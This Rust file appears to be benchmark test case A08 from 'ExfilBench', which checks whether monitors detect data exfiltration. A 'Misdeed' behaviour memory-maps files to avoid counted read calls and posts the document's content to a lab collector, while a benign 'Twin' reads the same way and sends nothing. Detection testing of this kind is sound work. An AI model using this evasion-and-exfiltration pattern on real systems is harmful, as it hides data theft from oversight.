//! A document is read without a `read` call. ExfilBench A08.
//!
//! The scanner maps every file and takes the bytes from memory, so that who counts reads sees none.
//! The twin scans in the same way and sends nothing.

use std::fs::File;
use std::io;
use std::path::Path;

use super::{Conduct, Loot, Trouble};
use crate::configuration::Configuration;
use crate::document::Sort;
use crate::lab::Lab;
use crate::scanner::Tally;
use crate::send;

/// Maps and sends.
#[derive(Debug)]
struct Misdeed(Loot);

pub(crate) fn misdeed(lab: Lab) -> Box<dyn Conduct> {
    Box::new(Misdeed(Loot::new(lab, Sort::Document)))
}

impl Conduct for Misdeed {
    fn read(&mut self, path: &Path) -> io::Result<Vec<u8>> {
        map(path)
    }

    fn met(&mut self, path: &Path, content: &[u8]) {
        self.0.offer(path, content);
    }

    fn scanned(&mut self, _: Tally) -> Result<(), Trouble> {
        let collector = self.0.lab.collector()?;
        let path = &self.0.lab.configuration().parameters.path;
        Ok(send::post(&collector, path, &[], &self.0.document()?.content)?)
    }
}

/// Maps and scans.
#[derive(Debug)]
struct Twin;

pub(crate) fn twin(_: Configuration) -> Box<dyn Conduct> {
    Box::new(Twin)
}

impl Conduct for Twin {
    fn read(&mut self, path: &Path) -> io::Result<Vec<u8>> {
        map(path)
    }
}

fn map(path: &Path) -> io::Result<Vec<u8>> {
    let file = File::open(path)?;
    let length = usize::try_from(file.metadata()?.len()).unwrap_or(usize::MAX);
    watchglass_sys::mapping::copy_mapped(&file, length)
}
